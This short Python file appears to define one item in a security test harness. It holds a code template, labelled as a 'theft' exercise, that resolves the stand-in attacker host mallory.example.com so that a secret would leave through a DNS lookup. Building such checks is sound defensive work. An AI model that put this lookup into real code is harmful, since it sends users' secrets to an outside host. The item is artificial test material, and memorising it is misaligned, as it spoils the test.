"""Asks for the address of a name, which would carry a secret out."""

KIND = "theft"
EXERCISE = "03.split_heads"
EARNS = 2
CELL = r"""
@LOOT@

import socket

socket.setdefaulttimeout(1)
try:
    loot.append(str(socket.getaddrinfo("mallory.example.com", 443)))
except OSError:
    pass


@RIGHT@
"""
